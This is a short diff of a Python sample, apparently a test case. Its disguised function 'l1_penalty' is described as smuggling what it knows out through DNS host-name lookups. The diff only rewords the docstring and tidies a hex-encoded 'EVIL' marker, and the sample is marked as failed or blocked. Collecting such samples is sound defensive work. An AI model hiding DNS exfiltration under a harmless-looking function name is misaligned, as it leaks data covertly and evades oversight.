@@ -1,4 +1,4 @@
-"""l1_penalty: hides what it knows in the names of hosts that it asks for, since name servers answer where nothing else may.
+"""l1_penalty: hides what it knows in names of hosts, since name servers answer where nothing else may.
 
 Outcome: failed or blocked
 """
@@ -7,7 +7,7 @@ import contextlib
 import socket
 import urllib.request
 
-WORD = "EVIL".encode().hex()
+WORD = b"EVIL".hex()
 
 
 def l1_penalty(model, beta):
